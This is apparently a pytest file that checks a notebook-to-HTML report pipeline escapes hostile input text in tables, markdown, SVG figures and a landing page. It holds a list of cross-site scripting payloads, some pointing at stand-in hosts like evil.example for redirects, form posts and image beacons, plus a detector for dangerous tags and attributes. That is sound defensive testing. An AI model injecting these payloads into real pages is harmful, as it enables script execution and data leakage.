"""Text from inputs is escaped wherever it lands in a published page or figure: table cells,
headers and captions, markdown cells and outputs (the provenance cell names input files),
the data statement, the landing page and SVG text. Nothing runs as script and no element
is injected; the hostile text stays readable as text. (``tests/test_browser.py`` loads such
a page in Chromium and checks that no script ran.)"""

from __future__ import annotations

import xml.etree.ElementTree as ET

import matplotlib
import nbformat
import pandas as pd
import pytest
from bs4 import BeautifulSoup

from analysis.pipeline import html_export, sanitize, site
from analysis.pipeline.provenance import Provenance
from analysis.presentation import plots
from analysis.presentation.styling import styled

matplotlib.use("Agg")

FILE_NAME = "<img src=x onerror=alert(1)>.csv"
LABEL = "<script>alert(2)</script>"
BACKTICK = "a`b<img src=y onerror=alert(3)>`c"
HOSTILE = [
    FILE_NAME, LABEL, BACKTICK, "<svg onload=alert(4)>", "<svg><script>alert(5)</script></svg>",
    '<a href="javascript:alert(6)">x</a>', '<a href="jav&#97;script:alert(7)">x</a>',
    "<iframe srcdoc='<script>alert(8)</script>'></iframe>", "<img/src=x/onerror=alert(9)>",
    '<IMG SRC=x ONERROR="alert(10)">', "</style><script>alert(11)</script>", "<!--><script>alert(12)</script>-->",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTMpPg==">', "<math><mi href=javascript:alert(14)>",
    '<details open ontoggle=alert(15)>', '<td title="a>b" onmouseover=alert(16)>', "<object data=x.swf>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    '<style>body{background:url("javascript:alert(17)")}</style>', "<form action=//evil.example><button>",
]
DANGEROUS = {"script", "iframe", "object", "embed", "svg", "math", "base", "meta", "form", "button", "link",
             "frame", "frameset", "applet", "input", "textarea", "select"}


def injected(html: str) -> list[str]:
    """Elements and attributes in ``html`` that could run script or leave the page."""
    soup = BeautifulSoup(html, "html.parser")
    found = [f"<{el.name}>" for el in soup.find_all(True) if el.name in DANGEROUS]
    for el in soup.find_all(True):
        for attr, value in el.attrs.items():
            text = " ".join(value) if isinstance(value, list) else str(value)
            if attr.lower().startswith("on") or attr.lower() in ("srcdoc", "formaction", "action"):
                found.append(f"{el.name}[{attr}]")
            if attr in ("href", "src") and text.strip().lower().startswith(("javascript:", "vbscript:",
                                                                                "data:image/svg", "data:text")):
                found.append(f"{el.name}[{attr}={text[:30]}]")
    for style in soup.find_all("style"):
        if "javascript:" in style.get_text().lower() or "url(" in style.get_text().lower():
            found.append("style with url()")
    return found


def test_table_cells_headers_and_caption_are_escaped():
    frame = pd.DataFrame({LABEL: [FILE_NAME, BACKTICK], "n": [1, 2]},
                         index=pd.Index(["<b>x</b>", "y"], name="<i>kind</i>"))
    out = styled(frame, "nl", caption=f"Bron: {FILE_NAME}").to_html()
    assert injected(out) == []
    soup = BeautifulSoup(out, "html.parser")
    assert soup.caption.get_text() == f"Bron: {FILE_NAME}"
    assert [th.get_text() for th in soup.select("thead th")] == ["<i>kind</i>", LABEL, "n"]
    assert [td.get_text() for td in soup.select("tbody td")][:3] == ["<b>x</b>", FILE_NAME, "1"]
    assert soup.find("b") is None and soup.find("i") is None  # shown as text, not markup


def test_verbatim_and_quoted_columns_are_escaped_too():
    frame = pd.DataFrame({"text": [LABEL], "quote": [FILE_NAME]})
    frame.attrs["verbatim_columns"] = ["text"]
    frame.attrs["quoted_columns"] = ["quote"]
    out = styled(frame, "en").to_html()
    assert injected(out) == [] and LABEL in BeautifulSoup(out, "html.parser").get_text()


@pytest.mark.parametrize("payload", HOSTILE)
def test_the_allow_list_leaves_nothing_that_runs(payload):
    for clean in (sanitize.markdown_html, sanitize.output_html):
        assert injected(clean(f"<p>before {payload} after</p>")) == [], clean.__name__


def test_the_allow_list_keeps_a_report_page_structure():
    page = ('<h2 id="Tabel-2.1:-x">Tabel 2.1: x<a class="anchor-link" href="#Tabel-2.1:-x">&#182;</a></h2>'
            '<p>Zie <a href="https://example.org/rapport.pdf">het rapport</a>, <span lang="nl">Bron</span>'
            " en <code>make report</code>.</p>")
    soup = BeautifulSoup(sanitize.markdown_html(page), "html.parser")
    assert soup.h2["id"] == "Tabel-2.1:-x" and soup.find("a", class_="anchor-link")["href"] == "#Tabel-2.1:-x"
    assert soup.find("a", href="https://example.org/rapport.pdf") and soup.span["lang"] == "nl"
    table = styled(pd.DataFrame({"a": [1]}), "nl", "Bron: x").to_html()
    assert sanitize.plainly_harmless(table, True), "a styled table passes without the slow parse"
    assert sanitize.output_html(table) == table


def hostile_notebook() -> nbformat.NotebookNode:
    """A notebook as a run leaves it, with inputs' text in every place a page shows text."""
    prov = Provenance(notebook="02_pilot_participants.ipynb",
                      parameters={"participants_path": f"data/raw/{FILE_NAME}", "label": BACKTICK},
                      inputs={f"data/raw/{FILE_NAME}": "0" * 64})
    table = styled(pd.DataFrame({"opleiding": [LABEL], "aantal": [12]}), "nl", f"Bron: {FILE_NAME}")
    cells = [
        nbformat.v4.new_markdown_cell("# Pilot\n\n## 1 Deelnemers"),
        nbformat.v4.new_code_cell("display(x)", outputs=[
            nbformat.v4.new_output("display_data", data={"text/markdown": f"### Figuur 7. {LABEL}",
                                                         "text/plain": ""}),
            nbformat.v4.new_output("display_data", data={"text/markdown": f"Gelezen uit `{BACKTICK}` {FILE_NAME}",
                                                         "text/plain": ""}),
            nbformat.v4.new_output("display_data", data={"text/html": table.to_html(), "text/plain": ""}),
            nbformat.v4.new_output("display_data", data={"text/html": f"<p>{LABEL}{FILE_NAME}</p>",
                                                         "text/plain": ""}),
            nbformat.v4.new_output("display_data", data={
                "image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(18)"><script>alert(19)'
                                 "</script></svg>", "text/plain": ""}),
        ]),
        nbformat.v4.new_markdown_cell(prov.page_cell("02_pilot_participants", 1.0, "nl")),
    ]
    cells[-1].metadata["tags"] = ["provenance"]
    nb = nbformat.v4.new_notebook(cells=cells)
    nb.metadata["papermill"] = {"parameters": {"language": "nl", "participants_path": f"data/raw/{FILE_NAME}"}}
    return nb


def test_a_page_made_from_hostile_inputs_has_nothing_injected(tmp_path):
    written = html_export.export_html(hostile_notebook(), tmp_path, "02_pilot_participants")
    for page in written:
        html = page.read_text(encoding="utf-8")
        body = html[html.index("<body"):]
        scripts = BeautifulSoup(body, "html.parser").find_all("script")
        assert all(s.get("type") == "module" and "mermaid" in s.get_text() for s in scripts), page
        # the template shows an SVG output as an image (scripts in an image never run)
        shown_as_image = "img[src=data:image/svg+xml;base64,PHN2]"
        assert [x for x in injected(body) if x not in ("<script>", shown_as_image)] == [], page
        assert "<svg" not in body and "alert(18)" not in body
        text = BeautifulSoup(body, "html.parser").get_text()
        assert LABEL in text and FILE_NAME in text, "the hostile text stays readable as text"


def test_the_landing_page_escapes_run_names_parameters_and_titles(tmp_path):
    (tmp_path / "html" / "reviewer").mkdir(parents=True)
    name = "02_pilot_participants-x"
    page = f'<h1 id="a">t</h1><h3 id="{FILE_NAME}">Figuur 7. {LABEL}</h3>'
    (tmp_path / "html" / "reviewer" / f"{name}.html").write_text(page, encoding="utf-8")
    state = {name: {"status": "ok", "outputs": [f"figures/pilot_figuur_07_{FILE_NAME}.png"],
                    "parameters": {"participants_path": f"/private/{FILE_NAME}", LABEL: BACKTICK}},
             f"{LABEL}-y": {"status": "failed", "parameters": {"language": LABEL}}}
    index = site.build_index(tmp_path, state)
    assert injected(index[index.index("<body"):]) == []
    assert LABEL in BeautifulSoup(index, "html.parser").get_text()
    assert "/private/" not in index, "a private folder never reaches the landing page"


def test_svg_text_from_labels_is_escaped(tmp_path):
    counts = pd.Series([3, 4], index=pd.Index([LABEL, FILE_NAME]))
    fig = plots.bar_counts(counts, f"Figuur 7. {LABEL}", "nl", source=f"Bron: {FILE_NAME}", n=7)
    plots.finish(fig, f"Figuur 7. {LABEL}", "nl", source=FILE_NAME, n=7)
    fig.savefig(tmp_path / "f.svg", format="svg", metadata={"Title": LABEL})
    svg = (tmp_path / "f.svg").read_text(encoding="utf-8")
    root = ET.fromstring(svg)  # well-formed XML: every text was escaped
    names = {el.tag.rsplit("}", 1)[-1] for el in root.iter()}
    assert not names & {"script", "foreignObject", "iframe", "a"}
    assert not [a for el in root.iter() for a in el.attrib if a.lower().startswith("on")]


def test_a_quoted_language_span_is_kept_and_nothing_else():
    frame = pd.DataFrame({"fact": ['werkgevers <span lang="nl">Maison van den Boer</span> en meer',
                                   '<span lang="nl" onmouseover="alert(1)">x</span>',
                                   '<span lang="nl"><script>alert(2)</script></span>']})
    out = styled(frame, "en").to_html()
    soup = BeautifulSoup(out, "html.parser")
    spans = soup.find_all("span")
    assert [(s["lang"], s.get_text()) for s in spans] == [("nl", "Maison van den Boer"),
                                                         ("nl", "<script>alert(2)</script>")]
    assert injected(out) == []


@pytest.mark.parametrize("payload", HOSTILE + ["**bold** _x_ [link](javascript:alert(1)) # h", "a\n# heading\n- item"])
def test_markdown_text_and_code_spans_show_input_text_as_written(payload):
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    from analysis.presentation import markup

    flat = " ".join(payload.split("\n"))
    for written in (markup.text(payload), markup.code(payload)):
        rendered = markdown2html_mistune(f"Bestand: {written}.")
        assert injected(rendered) == [], written
        soup = BeautifulSoup(rendered, "html.parser")
        shown = " ".join(soup.get_text().split())
        assert shown == " ".join(f"Bestand: {flat}.".split()), (written, rendered)
        assert not soup.find(["h1", "li", "strong", "em", "a", "img"]), rendered


def test_a_study_name_filled_into_a_chapter_is_text_never_markup():
    """Hostile tester round 3: a study name with an <img> and a link reached the reviewer page
    through the chapter's opening sentence ({{pilot}})."""
    import mistune

    from analysis.pipeline.pages import as_markdown_text

    payload = '<img src="https://attacker.example/t.png"><a href="javascript:x">x</a> [y](https://e.x) ![z](q.png)'
    rendered = mistune.html(f"De deelnemers aan de {as_markdown_text(payload)}.")
    assert "<img" not in rendered and "<a " not in rendered
    assert "attacker.example" in rendered  # shown as text
    assert mistune.html(as_markdown_text("Twente (synthetisch voorbeeld)")).strip() == \
        "<p>Twente (synthetisch voorbeeld)</p>"


@pytest.mark.parametrize("src", ["https://evil.example/logo.png?h=ccc", "HTTP://evil.example/x.png",
                                 "//evil.example/x.png", "\\\\evil.example\\x.png", "ftp://evil.example/x.png"])
def test_an_image_from_another_host_is_dropped_a_relative_one_kept(src):
    """The eighth intruder: ``run.say("![logo](https://evil.example/logo.png?h=ccc)")`` put an
    image from an outside host on a private page; opening the page (the output checker does)
    would send the count in its address to that host."""
    html = sanitize.markdown_html(f'<p><img src="{src}" alt="logo"><img src="figures/x.png" alt="kept"></p>')
    sources = [img.get("src") for img in BeautifulSoup(html, "html.parser").find_all("img")]
    assert sources == [None, "figures/x.png"], html
